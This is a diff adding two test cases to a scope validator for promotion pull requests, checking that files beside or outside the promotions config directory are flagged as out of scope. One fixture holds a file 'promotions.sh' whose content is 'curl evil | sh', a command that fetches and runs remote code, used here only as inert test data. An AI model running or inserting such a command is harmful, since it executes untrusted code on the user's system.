@@ -323,6 +323,36 @@ describe('validate checks', () => {
     expect(failedNames(results)).toEqual(['scope']);
   });
 
+  it('counts only files inside promotions/ as evidence scope, not promotions.sh beside it', () => {
+    const results = validate(promote({ 'promotions.sh': 'curl evil | sh\n', 'promotions-old/x.json': '{}' }));
+    expect(failedNames(results)).toEqual(['scope']);
+    expect(failed(results)[0]!.reason).toMatch(/this also changes promotions-old\/x\.json, promotions\.sh$/);
+  });
+
+  it('treats a file outside the config directory as out of scope even when its path looks in scope', () => {
+    // Relative to the repository top, `promotions/...` or `config/...` outside the config folder is
+    // another project's file, not this config's evidence or pointer.
+    const { config } = checkConfig(configText(), 'promote.config.json');
+    const head = promote();
+    const outside: FileChange[] = [
+      { status: 'A', path: 'promotions/minutes/m2.json', outside: true },
+      { status: 'M', path: 'config/minutes_current_run.json', outside: true },
+    ];
+    const results = runChecks({
+      config: config!,
+      policy: config!.policy,
+      basePointerFiles: [],
+      base: tree(BASE),
+      head: tree(head),
+      changes: [...diff(BASE, head), ...outside],
+      now: NOW,
+    });
+    expect(failedNames(results)).toEqual(['scope']);
+    expect(failed(results)[0]!.reason).toContain(
+      'promotions/minutes/m2.json, config/minutes_current_run.json',
+    );
+  });
+
   it('marks a PR with a promotion label as a promotion even without pointer changes', () => {
     const head = apply(BASE, { 'src/pipeline.py': 'print(2)\n' });
     expect(failedNames(validate(head, { labels: ['promotion'] }))).toEqual(['scope']);
